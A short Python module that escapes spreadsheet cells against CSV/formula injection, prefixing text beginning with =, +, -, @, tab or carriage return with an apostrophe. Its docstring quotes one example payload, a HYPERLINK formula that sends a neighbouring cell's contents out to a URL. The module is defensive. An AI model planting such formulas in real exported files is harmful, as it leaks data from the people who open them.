"""Spreadsheet cells that cannot run as a formula (OWASP "CSV Injection"), for every CSV and XLSX Tandem writes.

A text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is what Excel, LibreOffice and Google
Sheets may run as a formula (`=HYPERLINK("http://…?leak="&A1,"Klik hier")` sends a neighbouring cell away). Such
a cell gets a leading apostrophe, so it is shown as the text it is. Numbers stay numbers.
"""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """`value` as it may go into a CSV or XLSX cell."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row) -> list:
    return [safe_cell(value) for value in row]
